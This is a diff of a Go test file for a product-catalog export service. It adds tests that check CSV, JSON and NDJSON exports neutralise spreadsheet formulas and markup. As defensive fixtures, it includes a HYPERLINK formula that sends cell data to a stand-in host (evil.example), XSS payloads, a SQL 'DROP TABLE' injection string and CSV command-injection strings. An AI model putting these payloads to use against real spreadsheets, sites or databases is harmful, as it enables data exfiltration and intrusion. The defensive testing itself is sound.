@@ -4,13 +4,18 @@ import (
 	"bufio"
 	"database/sql"
 	"encoding/csv"
+	"encoding/json"
+	"fmt"
 	"net/http"
 	"os"
 	"path/filepath"
+	"runtime"
 	"strings"
 	"testing"
 
 	_ "modernc.org/sqlite"
+
+	"stockroom/catalog"
 )
 
 const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
@@ -90,32 +95,163 @@ func TestTheCSVHasShopifysColumnsAndALineForEachVariant(t *testing.T) {
 
 func TestCellsThatASpreadsheetWouldEvaluateAreGuarded(t *testing.T) {
 	for cell, want := range map[string]string{
-		"":          "",
-		"Shirt":     "Shirt",
-		"=1+1":      "'=1+1",
-		"+1":        "'+1",
-		"-1":        "-1",
-		"-1.50":     "-1.50",
-		"-1+cmd|x":  "'-1+cmd|x",
-		"-":         "'-",
-		"1.":        "1.",
-		"-.5":       "'-.5",
-		"@SUM(A1)":  "'@SUM(A1)",
-		"\t=1":      "'\t=1",
-		"\r=1":      "'\r=1",
-		"\n=1":      "'\n=1",
-		"  =1":      "'  =1",
-		"\u00a0=1":  "'\u00a0=1",
-		"＝1":        "'＝1",
-		"－1":        "'－1",
-		"a=b":       "a=b",
-		"'=1":       "'=1",
-		"0123":      "0123",
-		"\ufeff=1":  "'\ufeff=1",
-		"Größe @ S": "Größe @ S",
+		"":           "",
+		"Shirt":      "Shirt",
+		"=1+1":       "'=1+1",
+		"+1":         "'+1",
+		"-1":         "-1",
+		"-1.50":      "-1.50",
+		"-1+cmd|x":   "'-1+cmd|x",
+		"-":          "'-",
+		"1.":         "1.",
+		"-.5":        "'-.5",
+		"@SUM(A1)":   "'@SUM(A1)",
+		"\t=1":       "'\t=1",
+		"\r=1":       "'\r=1",
+		"\n=1":       "'\n=1",
+		"  =1":       "'  =1",
+		"\u00a0=1":   "'\u00a0=1",
+		"＝1":         "'＝1",
+		"－1":         "'－1",
+		"a=b":        "a=b",
+		"'=1":        "'=1",
+		"0123":       "0123",
+		"\ufeff=1":   "'\ufeff=1",
+		"\u200b=1":   "'\u200b=1",
+		"\x00\x1f=1": "'\x00\x1f=1",
+		" \t@x":      "' \t@x",
+		"\xff=1":     "'\xff=1",
+		"＋1":         "'＋1",
+		"＠x":         "'＠x",
+		"\u2212x":    "'\u2212x",
+		"\r\n":       "'\r\n",
+		"   ":        "   ",
+		"Größe @ S":  "Größe @ S",
 	} {
 		if got := guardedCell(cell); got != want {
 			t.Errorf("%q becomes %q, want %q", cell, got, want)
+		}
+	}
+}
+
+// TestHostileTextIsTextInEveryExport puts markup, scripts, formulas and odd
+// characters into every field of a product.
+func TestHostileTextIsTextInEveryExport(t *testing.T) {
+	r := newRig(t, nil)
+	for i, text := range []string{
+		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, formula, "@SUM(1)\t|cmd", "\r\n=1+1", "a\",\n=2+2,\"b", "\u202eevil", "\u2028x\u2029", "'; DROP TABLE products; --", "]]>&lt;",
+	} {
+		quoted, err := json.Marshal(text)
+		if err != nil {
+			t.Fatal(err)
+		}
+		r.deliver(catalog.ProductsUpdate, fmt.Sprintf(`{"id":%[1]d,"title":%[2]s,"body_html":%[2]s,"vendor":%[2]s,"product_type":%[2]s,"handle":%[2]s,"tags":%[2]s,"status":"active",
+			"created_at":"2026-01-01T00:00:00Z","updated_at":"2026-11-01T10:00:00Z","published_at":null,"options":[{"id":1,"name":%[2]s,"position":1,"values":[%[2]s]}],
+			"images":[{"id":5,"position":1,"src":"https://cdn.example/a.jpg","alt":%[2]s}],
+			"variants":[{"id":%[1]d1,"title":%[2]s,"sku":%[2]s,"barcode":%[2]s,"price":"1.00","position":1,"option1":%[2]s,"inventory_item_id":%[1]d1,"inventory_quantity":1,"inventory_policy":"deny","taxable":true}]}`, i+1, quoted))
+		list := decode[[]struct {
+			Title    string `json:"title"`
+			Body     string `json:"body_html"`
+			Variants []struct {
+				SKU string `json:"sku"`
+			} `json:"variants"`
+		}](t, r.admin(200, "GET", "/api/v1/products-export?format=json", ""))
+		if got := list[len(list)-1]; got.Title != text || got.Body != text || got.Variants[0].SKU != text {
+			t.Errorf("json: %q became %q", text, got.Title)
+		}
+		body := r.admin(200, "GET", "/api/v1/products-export", "")
+		if strings.Count(body, "\n") != i+1 || strings.ContainsAny(body, "<>\u2028\u2029") {
+			t.Errorf("ndjson has a line or markup of %q", text)
+		}
+		records, err := csv.NewReader(strings.NewReader(r.admin(200, "GET", "/api/v1/products-export?format=csv", ""))).ReadAll()
+		if err != nil || len(records) != i+2 {
+			t.Fatalf("csv of %q: %d lines, %v", text, len(records), err)
+		}
+		for n, cell := range records[i+1] {
+			if cell != guardedCell(cell) {
+				t.Errorf("csv, %s: %q would be evaluated", csvColumns[n], cell)
+			}
+		}
+	}
+	for _, path := range []string{"/api/v1/products", "/api/v1/explain/" + testShop + "/1", "/api/v1/status"} {
+		if body := r.admin(200, "GET", path, ""); strings.ContainsAny(body, "<>") {
+			t.Errorf("%s holds markup", path)
+		}
+	}
+}
+
+// TestAnExportTakesNoMoreMemoryForMoreProducts exports far more than it may hold.
+func TestAnExportTakesNoMoreMemoryForMoreProducts(t *testing.T) {
+	products, bodyBytes := 800, 40_000 // 32 MB
+	if os.Getenv("STOCKROOM_TORTURE") != "" {
+		products = 100_000
+	}
+	if raceDetector {
+		products = 300
+	}
+	r := newRig(t, nil)
+	fillProducts(t, r.store.Path(), products, bodyBytes)
+	for _, format := range []string{"ndjson", "json", "csv"} {
+		w := &heapMeter{h: http.Header{}}
+		runtime.GC()
+		runtime.ReadMemStats(&w.first)
+		r.Admin().ServeHTTP(w, request("GET", "/api/v1/products-export?format="+format, ""))
+		if least := int64(products * bodyBytes); w.bytes < least {
+			t.Errorf("%s: %d bytes, want more than %d", format, w.bytes, least)
+		}
+		t.Logf("%s: the heap grew by %d kB", format, w.most>>10)
+		if w.most > 8<<20 {
+			t.Errorf("%s: the heap grew by %d MB", format, w.most>>20)
+		}
+	}
+}
+
+// heapMeter takes an answer and watches the heap.
+type heapMeter struct {
+	h           http.Header
+	bytes, next int64
+	first       runtime.MemStats
+	most        uint64
+}
+
+func (m *heapMeter) Header() http.Header { return m.h }
+func (m *heapMeter) WriteHeader(int)     {}
+func (m *heapMeter) Write(b []byte) (int, error) {
+	m.bytes += int64(len(b))
+	if m.bytes >= m.next {
+		m.next += 8 << 20
+		runtime.GC() // so that only what is held counts
+		var now runtime.MemStats
+		runtime.ReadMemStats(&now)
+		if now.HeapAlloc > m.first.HeapAlloc {
+			m.most = max(m.most, now.HeapAlloc-m.first.HeapAlloc)
+		}
+	}
+	return len(b), nil
+}
+
+// fillProducts writes products of testShop with one variant each straight into
+// the file.
+func fillProducts(t testing.TB, path string, n, bodyBytes int) {
+	t.Helper()
+	db, err := sql.Open("sqlite", "file:"+path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	db.SetMaxOpenConns(1)
+	for _, query := range []string{
+		`WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?1)
+		INSERT INTO products (id, shop, external_id, status, selected, shopify_updated_at, content_hash, synced_at, source,
+		                      title, vendor, product_type, handle, tags, options, images, body_html)
+		SELECT i, ?2, 7000000 + i, 'ACTIVE', 1, 1000, 'x', 1000, 'bulk', 'Washed linen shirt with long sleeves ' || i, 'Vendor ' || (i % 50),
+		       'Shirts', 'washed-linen-shirt-' || i, '["linen"]', '[]', '[]', hex(zeroblob(?3)) FROM n`,
+		`WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?1)
+		INSERT INTO variants (product_id, external_id, row_hash, position, title, sku, barcode, price, inventory_item_id)
+		SELECT i, 9000000 + i, 1, 1, 'S', 'SKU-' || i, '40' || i, '10.00', 9500000 + i FROM n WHERE ?2 <> '' AND ?3 >= 0`,
+	} {
+		if _, err := db.Exec(query, n, testShop, bodyBytes/2); err != nil {
+			t.Fatal(err)
 		}
 	}
 }
